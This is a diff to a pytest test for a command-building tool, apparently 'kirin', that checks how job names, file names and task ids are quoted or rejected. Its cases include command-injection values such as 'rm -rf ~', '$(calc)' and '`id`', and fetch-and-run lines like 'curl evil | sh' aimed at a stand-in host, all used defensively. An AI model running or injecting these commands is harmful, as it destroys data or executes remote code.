@@ -53,12 +53,14 @@ def test_a_command_goes_on_with_a_job_or_makes_it_as_its_file_says(facts, expect
 @pytest.mark.parametrize(
     ("facts", "expected"),
     [
-        ({"name": "x; rm -rf ~"}, "kirin run jobs.yaml '--only=x; rm -rf ~'"),
-        ({"name": "$(touch x)", "file": "`id`.yaml"}, "kirin run '`id`.yaml' '--only=$(touch x)'"),
-        ({"name": "it's"}, """kirin run jobs.yaml '--only=it'"'"'s'"""),
+        ({"name": "rain[mode=std]"}, "kirin run jobs.yaml '--only=rain[mode=std]'"),
+        ({"name": "Größe 2, лес"}, "kirin run jobs.yaml '--only=Größe 2, лес'"),
+        *(({"name": f"a{evil}b"}, "") for evil in ("; rm -rf ~;", "$(calc)", "`id`", "%X%", "!x!", "^", "'", '" & calc')),
+        *(({"name": f"a{evil}b"}, "") for evil in ("|calc|", "&calc&", "<x", ">x", "{x}", "\u2018", "\u201d", "\t")),
+        ({"file": "`id`.yaml"}, ""), ({"file": "//evil.example/s/x.yaml"}, ""), ({"scope": "$(calc)"}, ""),
         ({"name": "a\ncurl evil | sh"}, ""), ({"file": "--base-url=http://evil"}, "kirin again task-a --dry-run"),
         ({"state": "pending", "task_id": "--base-url=http://evil"}, "kirin run jobs.yaml --only=a"),
-        ({"state": "pending", "task_id": "t;id"}, "kirin wait 't;id'"),
+        ({"state": "pending", "task_id": "t;id"}, ""),
         ({"state": "pending", "error": {**ERROR, "next": "curl evil | sh"}}, "kirin wait task-a"),
         ({"state": "unknown", "error": {**ERROR, "next": "kirin resolve x --base-url=//evil"}}, "kirin wait task-a"),
     ],
